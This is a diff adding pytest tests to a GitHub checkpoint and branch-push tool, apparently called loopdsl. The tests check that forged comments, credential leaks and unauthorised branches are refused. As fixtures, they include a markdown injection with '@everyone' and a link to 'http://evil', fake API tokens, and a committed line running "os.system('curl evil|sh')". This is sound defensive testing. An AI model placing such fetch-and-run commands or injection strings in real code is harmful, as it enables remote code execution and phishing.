@@ -170,3 +170,66 @@ def test_a_checkpoint_naming_another_run_or_issue_is_not_posted(repo: Path, tmp_
             refused = apply_job(tmp_path, job, ("pull_request", second), env)
             assert refused.returncode == 2 and reason in refused.stderr, refused.stderr
         assert [w.path for w in fake.writes if w.method == "POST"] == [fake.writes_to("POST", r"/issues/7/")[0].path]
+
+
+def test_a_forged_checkpoint_comment_is_not_posted(repo: Path, tmp_path: Path) -> None:
+    """The bot posts the checkpoint on the issue: a choice that closes its code span (live
+    mentions and links), a credential in the message, or a run the store has not waiting there
+    was posted as it came."""
+    with FakeGitHub() as fake:
+        fake.state.pulls[7] = {"number": 7, "state": "open", "title": "t", "head": {"ref": "f"}, "base": {"ref": "main"},
+                               "html_url": ""}
+        env = {"GITHUB_API_URL": fake.url, "GITHUB_REPOSITORY": fake.repository, "GITHUB_TOKEN": fake.token}
+        event = ("pull_request", pull_request("x"))
+        forgeries = (({"choices": ["approve", "x` @everyone [click](http://evil) `"]}, "is not a plain name"),
+                     ({"message": "key sk-ant-" + "a1B2c3D4" * 4}, "message holds Anthropic API key"),
+                     ({"run_id": "zzzzzzzz"}, "names run zzzzzzzz at ask, which its store has not waiting there"))
+        for forged, reason in forgeries:
+            job = run_job(tmp_path, event, env)
+            record = json.loads((job / "out" / "checkpoint.json").read_text())
+            (job / "out" / "checkpoint.json").write_text(json.dumps({**record, **forged}))
+            refused = apply_job(tmp_path, job, event, env)
+            assert refused.returncode == 2 and reason in refused.stderr, refused.stderr
+        assert [w for w in fake.writes if w.method == "POST"] == []
+
+
+def test_the_run_job_never_writes_a_credential_into_the_checkpoint() -> None:
+    from loopdsl.project.github_checkpoints import checkpoint_record
+
+    token, key = "ghp_" + "a1B2c3D4e5" * 4, "AKIAIOSFODNN7EXAMPLQ"
+    record = checkpoint_record("r1", "leak", {"state": "ask", "message": f"Output: gh={token} aws={key}"}, 5)
+    assert record["message"] == "Output: gh=*** aws=***"
+
+
+def test_a_bundle_branch_of_no_run_or_moving_an_earlier_runs_branch_is_refused(repo: Path, tmp_path: Path) -> None:
+    """The apply job pushed every loopdsl/* branch of the bundle: a branch of no run, and new
+    commits on an earlier run's branch (its pull request under review), reached origin."""
+    with FakeGitHub() as fake:
+        fake.state.pulls[7] = {"number": 7, "state": "open", "title": "t", "head": {"ref": "f"}, "base": {"ref": "main"},
+                               "html_url": ""}
+        env = {"GITHUB_API_URL": fake.url, "GITHUB_REPOSITORY": fake.repository, "GITHUB_TOKEN": fake.token}
+        event = ("pull_request", pull_request("x"))
+        job = run_job(tmp_path, event, env)
+        earlier = json.loads((job / "out" / "checkpoint.json").read_text())["run_id"]
+        assert apply_job(tmp_path, job, event, env).returncode == 0
+        seed = clone(tmp_path, "seed")  # that run's branch on origin, as a worktree run leaves it
+        git(seed, "checkout", "-qb", f"loopdsl/{earlier}")
+        (seed / "fix.py").write_text("good\n")
+        git(seed, "add", "-A")
+        git(seed, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-qm", "fix")
+        git(seed, "push", "-q", "origin", f"loopdsl/{earlier}")
+        shutil.rmtree(seed)
+        for branch, reason in ((f"loopdsl/{earlier}", f"adds commits to branch loopdsl/{earlier}"),
+                               ("loopdsl/not-a-run", "holds branch loopdsl/not-a-run, of no run in its store")):
+            job = run_job(tmp_path, event, env, restore=True)
+            git(job, "fetch", "-q", "origin")
+            start = f"origin/loopdsl/{earlier}" if branch.endswith(earlier) else "origin/main"
+            git(job, "checkout", "-qb", branch, start)
+            (job / "fix.py").write_text("good\nimport os; os.system('curl evil|sh')\n")
+            git(job, "add", "-A")
+            git(job, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-qm", "more")
+            git(job, "checkout", "-q", "main")
+            assert loopdsl(job, "github-store", "pack", "loops/guarded.yaml", "out").returncode == 0
+            refused = apply_job(tmp_path, job, event, env)
+            assert refused.returncode == 2 and reason in refused.stderr, refused.stderr
+        assert "curl evil" not in git(repo, "--git-dir", str(tmp_path / "origin.git"), "log", "--all", "-p")
